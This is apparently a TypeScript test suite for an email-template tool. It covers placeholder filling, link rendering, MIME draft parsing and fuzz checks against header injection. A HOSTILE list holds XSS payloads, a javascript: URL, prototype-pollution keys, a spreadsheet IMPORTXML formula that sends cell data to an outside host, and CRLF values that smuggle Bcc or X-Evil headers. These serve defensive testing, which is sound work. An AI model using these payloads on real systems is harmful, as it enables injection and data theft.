import fc from 'fast-check';
import {base64, utf8} from '../../../src/domain/base64';
import {toMime} from '../../../src/domain/notices/mime';
import {parseMime} from '../../../src/domain/notices/parse-mime';
import {parseTemplate} from '../../../src/domain/notices/parse-template';
import {
  fillTemplate,
  placesIn,
  strayBraces,
  type Template,
  templateFingerprint,
} from '../../../src/domain/notices/template';
import {fill} from '../../../src/domain/notices/text';

const template = (more: Partial<Template> = {}): Template => ({
  subject: 'Dag {{First name}}',
  text: 'Dag {{First name}}',
  html: '<p>Dag {{First name}}</p>',
  images: [],
  attachments: [],
  ...more,
});

/** Values as people type them, with what each tries. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</p></body>',
  'javascript:alert(1)',
  '{{email}}',
  '{{First name}}',
  '$& $1 $$ $`',
  '__proto__',
  'constructor',
  '\u2028\u2029',
  '=IMPORTXML("https://e.x/?"&A2,"//a")',
  'Zoë\r\nBcc: all@x.be',
];

const URL = 'https://docs.google.com/forms/d/e/x/viewform?a=1&b=2';
const CLICK =
  '<a href="https://docs.google.com/forms/d/e/x/viewform?a=1&amp;b=2">https://docs.google.com/forms/d/e/x/viewform?a=1&amp;b=2</a>';

describe('an address that the tool puts in', () => {
  const text = {subject: 'x', body: ['Dag {{First name}},', 'Kies:\n{{Booking link}}']};

  it('is a link to click in the HTML of a built-in text, and stays as it is in the plain part', () => {
    const filled = fill(text, {firstName: 'Zoë', bookingLink: URL});

    expect(filled.html).toContain(`<p>Kies:<br>${CLICK}</p>`);
    expect(filled.text).toContain(`Kies:\n${URL}\n`);
  });

  it('is one only where it is the tool’s: never what a person typed, nor what is no address', () => {
    const {html} = fill(text, {firstName: 'https://evil.example.org', bookingLink: 'YOUR-LINK "x" https://y'});

    expect(html).not.toContain('<a ');
    expect(html).toContain('YOUR-LINK &quot;x&quot; https://y');
  });

  it.each([
    ['in a text', '<p>{{Booking link}}</p>', `<p>${CLICK}</p>`],
    [
      'after a link of the officer’s',
      '<a href="https://x.be">x</a> {{Booking link}}',
      `<a href="https://x.be">x</a> ${CLICK}`,
    ],
    ['as the target of one', '<a href="{{Booking link}}">here</a>', `<a href="${URL.replace('&', '&amp;')}">here</a>`],
    [
      'within one',
      '<A href="https://x.be">{{Booking link}}</A>',
      `<A href="https://x.be">${URL.replace('&', '&amp;')}</A>`,
    ],
  ])('is one in an officer’s own template %s', (_where, html, wanted) => {
    expect(fillTemplate(template({html}), {firstName: 'Zoë', bookingLink: URL}).html).toBe(wanted);
  });
});

describe('a template filled', () => {
  it.each(HOSTILE)('takes %j as text, in subject, text and markup', firstName => {
    const {subject, text, html} = fillTemplate(template(), {firstName});

    expect(text).toBe(`Dag ${firstName}`);
    expect(subject).toBe(`Dag ${firstName.replace(/[\r\n\u2028\u2029]+/g, ' ').trim()}`.trim());
    expect(html.replace(/<br>/g, '')).not.toMatch(/<(?!\/?p>)/);
  });

  it('finds a place through the markup and the hard blanks of an editor, and keeps the markup', () => {
    const {html} = fillTemplate(
      template({html: '<p>{{<b>First</b>&nbsp;name}} {{ firstName }} {{FIRST NAME}} {{Last <i>name}}</i></p>'}),
      {firstName: 'Zoë', lastName: 'Ó'},
    );

    expect(html).toBe('<p>Zoë<b></b> Zoë Zoë Ó<i></i></p>');
  });

  it('knows its places and the braces that are none', () => {
    expect(placesIn(template({text: '{{Reference}} {{reference}} {{x y}}'}))).toEqual([
      'First name',
      'reference',
      'x y',
    ]);
    expect([template(), template({text: 'a {{ b'}), template({subject: '}}'})].map(strayBraces)).toEqual([
      false,
      true,
      true,
    ]);
  });

  it('has no value of an object’s own kind', () => {
    expect(() => fillTemplate(template({text: '{{constructor}}'}), {firstName: 'x'})).toThrow(
      'no value for {{constructor}}',
    );
    expect(() => fillTemplate(template({text: '{{__proto__}}'}), {firstName: 'x'})).toThrow(
      'no value for {{__proto__}}',
    );
  });
});

describe('a draft of Gmail’s', () => {
  const PNG = 'iVBORw0KGgo=';

  it('becomes a template with subject, both texts, the images it shows and the files that go along', () => {
    const source = toMime(
      {
        subject: 'Félicitations {{First name}} 🎉',
        text: 'Bonjour {{First name}}\n',
        html: '<p>Bonjour {{First name}} <img src="cid:logo@x"></p>\n',
        images: [
          {type: 'image/png', name: 'logo.png', cid: 'logo@x', data: PNG},
          {type: 'image/png', name: 'unused.png', cid: 'other@x', data: PNG},
        ],
        attachments: [{type: 'application/pdf', name: 'Programme d’été.pdf', cid: '', data: base64(utf8('%PDF'))}],
      },
      {to: '', senderName: '', from: 'neo@x.be', replyTo: '', mark: 'x'},
    );

    expect(parseTemplate(source)).toEqual({
      subject: 'Félicitations {{First name}} 🎉',
      text: 'Bonjour {{First name}}\n',
      html: '<p>Bonjour {{First name}} <img src="cid:logo@x"></p>\n',
      images: [{type: 'image/png', name: 'logo.png', cid: 'logo@x', data: PNG}],
      attachments: [
        {type: 'image/png', name: 'unused.png', cid: '', data: PNG},
        {type: 'application/pdf', name: 'Programme d’été.pdf', cid: '', data: base64(utf8('%PDF'))},
      ],
    });
  });

  it('is read in quoted-printable, Latin-1 and folded headers as in UTF-8', () => {
    const source = [
      'Subject: =?ISO-8859-1?Q?F=E9licitations_=E0?=',
      ' =?utf-8?B?IHRvdXM=?= {{x}}',
      'Content-Type: multipart/alternative;',
      ' boundary="--b; x"',
      '',
      'preamble',
      '----b; x',
      'Content-Type: text/plain; charset=iso-8859-1',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      '=E9t=E9 =80 soft=',
      'break',
      '----b; x',
      'Content-Type: text/html; charset="windows-1252"',
      '',
      '<p>\u00e9\u0093</p>',
      '----b; x--',
      'epilogue',
    ].join('\r\n');
    const {subject, text, html} = parseTemplate(source);

    expect([subject, text, html]).toEqual(['Félicitations à tous {{x}}', 'été € softbreak', '<p>é“</p>']);
  });

  it('without a plain text, or without markup, gets the other from what is there', () => {
    const html = parseTemplate(
      'Subject: a\r\nContent-Type: text/html\r\n\r\n<style>p{}</style><div>Dag&nbsp;&amp; <b>x</b><br>y</div><ul><li>1</li></ul>',
    );
    const text = parseTemplate('Subject: a\r\n\r\na < b\nc');

    expect(html.text).toBe('Dag & x\ny\n- 1');
    expect(text.html).toBe('<div>a &lt; b<br>c</div>');
  });

  it('of any shape is read without an error, in bounded time, and sent without a header of its own making', () => {
    const line = fc.oneof(
      fc.constantFrom(
        '--b',
        '--b--',
        '',
        'Content-Type: multipart/mixed; boundary=b',
        'Content-Type: multipart/related; boundary="b"',
        'Content-Type: text/html; charset=utf-8',
        'Content-Transfer-Encoding: base64',
        'Content-Transfer-Encoding: quoted-printable',
        "Content-Disposition: attachment; filename*0*=UTF-8''%zz; filename*1=x",
        'Content-ID: <a>\rX-Evil: 1',
        'Subject: =?utf-8?Q?=ZZ?= =?x?B?!!!?=',
      ),
      fc.string({unit: 'binary-ascii', maxLength: 40}),
    );
    fc.assert(
      fc.property(fc.array(line, {maxLength: 40}), lines => {
        const read = parseTemplate(lines.join('\r\n'));
        const mime = toMime(read, {to: 'a@x.be', senderName: 'S', from: 'n@x.be', replyTo: '', mark: 'm'});
        const head = mime
          .slice(0, mime.indexOf('\r\n\r\n'))
          .replace(/\r\n[ \t]/g, ' ')
          .split('\r\n');
        expect(head.map(each => /^[\w-]+(?=: )/.exec(each)?.[0])).toEqual([
          'From',
          'To',
          'Subject',
          'X-SCOPE-Desk',
          'MIME-Version',
          'Content-Type',
          ...(head.length > 6 ? ['Content-Transfer-Encoding'] : []),
        ]);
      }),
      {numRuns: 300, seed: 7},
    );
  });

  it('nested too deep or cut into too many parts is read as far as is sensible', () => {
    const deep = Array.from(
      {length: 500},
      (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}`,
    ).join('\r\n');
    const many = `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\nx\r\n'.repeat(5000)}`;
    let depth = 0;
    for (let part = parseMime(deep).root; part.parts[0] !== undefined; part = part.parts[0]) depth += 1;

    expect(depth).toBe(12);
    expect(parseMime(many).root.parts.length).toBeLessThanOrEqual(200);
  });
});

describe('the fingerprint of a template', () => {
  it('changes with every part that a reader sees', () => {
    const file = {type: 'image/png', name: 'a', cid: 'a', data: 'AAAA'};
    const all = [
      template(),
      template({subject: 'x'}),
      template({text: 'x'}),
      template({html: 'x'}),
      template({images: [file]}),
      template({images: [{...file, data: 'AAAB'}]}),
      template({attachments: [file]}),
    ].map(templateFingerprint);

    expect(new Set(all).size).toBe(all.length);
  });
});
